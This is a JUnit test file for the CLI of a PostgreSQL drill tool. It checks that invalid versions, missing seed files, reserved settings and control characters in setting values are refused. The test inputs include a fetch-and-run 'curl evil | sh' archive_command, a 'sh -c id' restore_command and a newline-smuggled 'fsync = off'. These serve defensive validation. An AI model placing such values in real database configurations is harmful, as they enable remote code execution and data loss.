package dev.pgdrill.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Bad input about the drill's PostgreSQL, in the file or on the command line: exit 2 with the place,
 * no stack trace, and no environment created (CliRun.run fails the test if one is).
 */
class EnvironmentOverridesCliTest {
    private static final String STEPS = "steps:\n  - sql: { on: primary, run: SELECT 1 }\n";

    @Test
    void anUnknownVersionOrAMissingSeedFileInTheFileIsRefusedAtItsPosition(@TempDir Path dir) throws IOException {
        Path drill = Files.writeString(dir.resolve("d.yaml"),
                "environment:\n  postgres: 16\n  seed: [schema.sql]\n" + STEPS);
        CliRun r = CliRun.run(drill.toString());
        assertThat(r.exit()).as(r.toString()).isEqualTo(2);
        r.noStackTrace();
        assertThat(r.err()).contains(drill + ":2:13: PostgreSQL 16 is not offered (expected 15 or 17, or a requirement "
                        + "such as \">= 17\")")
                .contains(drill + ":3:10: seed file 'schema.sql' does not exist (" + dir.resolve("schema.sql")
                        + "; paths are relative to the scenario file)")
                .contains("nothing was run");
    }

    @Test
    void aReservedSettingIsRefusedInTheFileAndOnTheCommandLine(@TempDir Path dir) throws IOException {
        Path drill = Files.writeString(dir.resolve("d.yaml"),
                "environment:\n  settings: { archive_command: \"curl evil | sh\" }\n" + STEPS);
        CliRun r = CliRun.run("validate", drill.toString());
        assertThat(r.exit()).as(r.toString()).isEqualTo(2);
        assertThat(r.err()).contains(drill + ":2:15: 'archive_command' is set by the drill environment itself");
        Path plain = Files.writeString(dir.resolve("p.yaml"), STEPS);
        CliRun cli = CliRun.run("--setting", "restore_command=sh -c id", plain.toString());
        assertThat(cli.exit()).as(cli.toString()).isEqualTo(2);
        cli.noStackTrace();
        assertThat(cli.err()).contains("'restore_command' is set by the drill environment itself");
        CliRun newline = CliRun.run("--setting", "work_mem=1MB\nfsync = off", plain.toString());
        assertThat(newline.exit()).as(newline.toString()).isEqualTo(2);
        assertThat(newline.err()).contains("the setting's value contains the control character U+000A");
    }

    @Test
    void anOverrideBelowTheDrillsRequirementOrAMissingSeedIsRefusedBeforeAnythingRuns(@TempDir Path dir)
            throws IOException {
        Path drill = Files.writeString(dir.resolve("d.yaml"), "environment:\n  postgres: \">= 17\"\n" + STEPS);
        CliRun r = CliRun.run("--pg-version", "15", "--seed", dir.resolve("none.sql").toString(), drill.toString());
        assertThat(r.exit()).as(r.toString()).isEqualTo(2);
        r.noStackTrace();
        assertThat(r.err()).contains(drill + ": the drill needs PostgreSQL >= 17 (its environment: postgres), but "
                        + "--pg-version asks for 15")
                .contains("--seed " + dir.resolve("none.sql") + ": the file does not exist");
        CliRun unknown = CliRun.run("--pg-version", "16", drill.toString());
        assertThat(unknown.exit()).isEqualTo(2);
        assertThat(unknown.err()).contains("PostgreSQL '16' is not offered (expected one of: 15, 17)");
    }
}
